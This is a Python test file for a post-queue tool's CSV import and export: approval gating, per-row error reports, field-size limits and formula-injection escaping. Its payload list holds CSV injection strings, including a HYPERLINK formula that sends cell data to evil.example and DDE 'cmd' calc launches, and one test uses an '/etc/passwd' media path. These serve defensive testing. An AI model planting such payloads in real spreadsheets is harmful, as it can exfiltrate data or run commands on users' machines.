"""Issue 12, items 4, 5, 9 and 11 (CSV part): the approval gate on import, CSV formula
injection, a report per row, and fields over 128 KB."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from assistant.cli import main
from assistant.config import get_settings
from assistant.queue import QueueItem, QueueService, open_queue
from assistant.queue.exports import export, to_buffer_csv, to_csv
from assistant.queue.importer import CSVImportError, parse_csv
from assistant.queue.importing import import_for_user, import_upload
from assistant.queue.media_store import MediaStore
from assistant.queue.storage import QueueStorage
from tests.queue.conftest import BERLIN, word_checker

ROOT = Path(__file__).resolve().parents[2]
KIT = "kaffeekontor-hamburg"
HEADER = "kit_id,platform,text,scheduled_at,status,reviewed,link\n"


@pytest.fixture()
def real_queue(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> QueueService:
    """open_queue with the product's checkers and the example kit in the kits folder."""
    shutil.copytree(ROOT / "brand_kits" / KIT, tmp_path / "kits" / KIT)
    monkeypatch.setenv("POSTWERK_KITS_DIR", str(tmp_path / "kits"))
    get_settings.cache_clear()
    return open_queue()


# -- item 4: the approval gate ----------------------------------------------------------------
def test_an_approved_row_with_a_loopback_link_stays_a_draft(real_queue: QueueService) -> None:
    data = (HEADER + f"{KIT},linkedin,Neue Röstung ab Montag,2030-03-04 09:00,approved,true,"
            "http://127.0.0.1:8801/x\n").encode()
    report = import_for_user(real_queue, data, "gate.csv", get_settings(), by="test")
    [row] = report.rows
    assert row.outcome == "imported" and row.status == "draft"
    assert "stored as draft, not approved" in row.reason and "link_refused" in row.reason
    item = real_queue.get(row.item_id or 0)
    assert item.status == "draft" and not item.reviewed
    assert "link_refused" in [p.code for p in item.problems]
    assert "1 imported with a note" in report.summary()


def test_a_posted_row_over_the_limit_stays_a_draft(real_queue: QueueService) -> None:
    text = "Kaffee! " * 50  # 400 characters on X
    data = (HEADER + f"{KIT},x,{text.strip()},2030-03-04 09:00,posted,true,\n").encode()
    [row] = import_for_user(real_queue, data, "long.csv", get_settings(), by="test").rows
    item = real_queue.get(row.item_id or 0)
    assert item.status == "draft" and "too_long" in [p.code for p in item.errors]
    assert "not posted" in row.reason


def test_a_clean_posted_row_goes_through_approve_and_mark_posted(
    real_queue: QueueService
) -> None:
    data = ("kit_id,platform,text,scheduled_at,status,posted_url,posted_at\n"
            f"{KIT},mastodon,Moin aus der Rösterei #Möwenbohne,2030-03-04 09:00,posted,"
            "https://mastodon.example/@k/1,2030-03-04 09:05\n").encode()
    [row] = import_for_user(real_queue, data, "ok.csv", get_settings(), by="test").rows
    item = real_queue.get(row.item_id or 0)
    assert (row.outcome, row.reason, item.status, item.reviewed) == ("imported", "", "posted",
                                                                     True)
    assert item.posted_url == "https://mastodon.example/@k/1"
    assert item.posted_at is not None and item.posted_at.astimezone(BERLIN).minute == 5
    assert [h.action for h in item.history] == ["imported", "approved", "posted"]


# -- item 5: formula injection ------------------------------------------------------------
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\tTab=1", "\r=1", "'=already quoted"]


@pytest.fixture()
def plain_queue(tmp_path: Path) -> QueueService:
    return QueueService(QueueStorage(f"sqlite:///{tmp_path / 'q.db'}"), word_checker,
                        media_store=MediaStore(tmp_path / "media"))


def _payload_items(queue: QueueService) -> list[QueueItem]:
    from datetime import datetime

    for n, text in enumerate(PAYLOADS):
        queue.add(QueueItem(kit_id="kaffee", platform="mastodon", text=text,
                            first_comment=text, scheduled_at=datetime(2030, 1, 1, 9, n,
                                                                      tzinfo=BERLIN)))
    return queue.list()


def test_exports_escape_formula_cells(plain_queue: QueueService) -> None:
    items = _payload_items(plain_queue)
    generic = list(csv.DictReader(io.StringIO(to_csv(items))))
    buffer = list(csv.DictReader(io.StringIO(to_buffer_csv(items))))
    for cells in ([r["text"] for r in generic], [r["first_comment"] for r in generic],
                  [r["Text"] for r in buffer]):
        assert all(c.startswith("'") for c in cells), cells
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert generic[0]["text"] == "'" + PAYLOADS[0]
    assert generic[-1]["text"] == "''=already quoted"


def test_import_reverses_the_escaping(plain_queue: QueueService, tmp_path: Path) -> None:
    items = _payload_items(plain_queue)
    fresh = QueueService(QueueStorage(f"sqlite:///{tmp_path / 'fresh.db'}"), word_checker,
                         media_store=MediaStore(tmp_path / "media"))
    report = import_upload(fresh, export(items, "csv"), "queue.csv")
    assert [r.outcome for r in report.rows] == ["imported"] * len(PAYLOADS)
    texts = [i.text.strip("\r\n") for i in fresh.list()]
    assert texts == [p.strip("\r\n") for p in PAYLOADS]
    assert [i.first_comment for i in fresh.list()] == [p.strip() for p in PAYLOADS]


# -- item 9: a report per row -----------------------------------------------------------------
def test_every_row_is_reported_and_one_bad_row_aborts_nothing(plain_queue: QueueService) -> None:
    big = "x" * (129 * 1024)
    rows = [
        "uid,kit_id,platform,text,scheduled_at,media,colour,mood",
        "a1,kaffee,x,eins,2030-01-01 09:00,,rot,",
        "a1,kaffee,x,doppelt,2030-01-01 10:00,,,",
        "a2,Bad Kit!,x,drei,2030-01-01 11:00,,,",
        "a3,kaffee,x,vier,morgen früh,,,",
        "a4,kaffee,myspace,fünf,2030-01-01 12:00,,,",
        "a5,kaffee,x,sechs,2030-01-01 13:00,/etc/passwd,,",
        f"a6,kaffee,x,{big},2030-01-01 14:00,,,",
        "a7,kaffee,x,acht,2030-01-01 15:00,,,,extra",
        "a8,kaffee,x,neun,2030-01-01 16:00,,,",
    ]
    report = import_upload(plain_queue, "\n".join(rows).encode(), "mixed.csv")
    got = [(r.number, r.outcome) for r in report.rows]
    assert got == [(2, "imported"), (3, "refused"), (4, "refused"), (5, "refused"),
                   (6, "refused"), (7, "refused"), (8, "refused"), (9, "refused"),
                   (10, "imported")]
    reasons = [r.reason for r in report.rows]
    assert "duplicate uid 'a1': row 2 has it already" in reasons[1]
    assert "bad kit id 'Bad Kit!'" in reasons[2]
    assert "scheduled_at 'morgen früh' is not a date" in reasons[3]
    assert "unknown platform 'myspace'" in reasons[4]
    assert "media refused: /etc/passwd is a local file path" in reasons[5]
    assert "the text field is 129 KB; a field may have at most 128 KB" in reasons[6]
    assert "1 cell(s) more than the header" in reasons[7]
    assert report.unknown_columns == ["colour", "mood"]
    assert "ignored unknown column(s) colour, mood" in report.summary()
    assert [i.text for i in plain_queue.list()] == ["eins", "neun"]


def test_whole_file_limits_are_one_line() -> None:
    with pytest.raises(CSVImportError, match="at most 16 MB; split it") as caught:
        parse_csv(b"kit_id,platform,text,scheduled_at\n" + b"x" * (17 * 2**20), name="big.csv")
    assert "\n" not in str(caught.value)


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as caught:
        main(["queue", *args])
    out, err = capsys.readouterr()
    return int(caught.value.code or 0), out, err


def test_cli_report_and_the_128_kb_field(capsys: pytest.CaptureFixture[str],
                                        real_queue: QueueService, tmp_path: Path) -> None:
    path = tmp_path / "q.csv"
    path.write_text(f"kit_id,platform,text,scheduled_at,extra\n"
                    f"{KIT},mastodon,Moin,2030-01-01 09:00,\n"
                    f"{KIT},mastodon,{'y' * 200_000},2030-01-01 10:00,\n")
    code, out, _err = _cli(capsys, "import", str(path), "--json")
    doc = json.loads(out)
    assert code == 1 and (doc["imported"], doc["refused"]) == (1, 1)
    assert doc["unknown_columns"] == ["extra"]
    assert doc["rows"][1]["number"] == 3 and "field is 195 KB" in doc["rows"][1]["reason"]
    huge = tmp_path / "huge.csv"
    huge.write_text(f"kit_id,platform,text,scheduled_at\n{KIT},x,{'z' * 140_000},2030-01-01\n")
    code, out, err = _cli(capsys, "import", str(huge))
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert "huge.csv: nothing was imported; row 2: refused: the text field is 136 KB" in err


def test_a_posted_row_with_a_bad_posted_url_is_kept_and_reported(
    real_queue: QueueService
) -> None:
    data = ("kit_id,platform,text,scheduled_at,status,posted_url\n"
            f"{KIT},mastodon,Moin aus der Rösterei #Möwenbohne,2030-03-04 09:00,posted,ftp://x\n").encode()
    [row] = import_for_user(real_queue, data, "url.csv", get_settings(), by="test").rows
    assert (row.outcome, row.status) == ("imported", "approved")
    assert row.reason.startswith("stored as approved, not posted: 'ftp://x' is not a link")
    assert real_queue.get(row.item_id or 0).status == "approved"
